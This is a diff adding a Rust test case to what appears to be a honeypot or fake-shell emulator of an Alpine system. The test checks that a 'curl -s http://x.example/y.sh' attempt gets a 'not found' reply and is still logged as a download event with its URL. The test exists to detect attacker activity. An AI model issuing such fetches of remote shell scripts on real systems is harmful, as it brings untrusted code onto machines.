@@ -187,6 +187,11 @@ fn installed_programs_and_package_managers() {
         alpine.run_line(&mut a, "apt-get install x", NOW).text,
         "-ash: apt-get: not found\n"
     );
+    // curl is not installed on Alpine, but the attempt is still recorded.
+    let o = alpine.run_line(&mut a, "curl -s http://x.example/y.sh", NOW);
+    assert_eq!(o.text, "-ash: curl: not found\n");
+    assert_eq!(o.events[1].kind, kind::DOWNLOAD_ATTEMPT);
+    assert_eq!(o.events[1].get("url"), Some("http://x.example/y.sh"));
 }
 
 #[test]
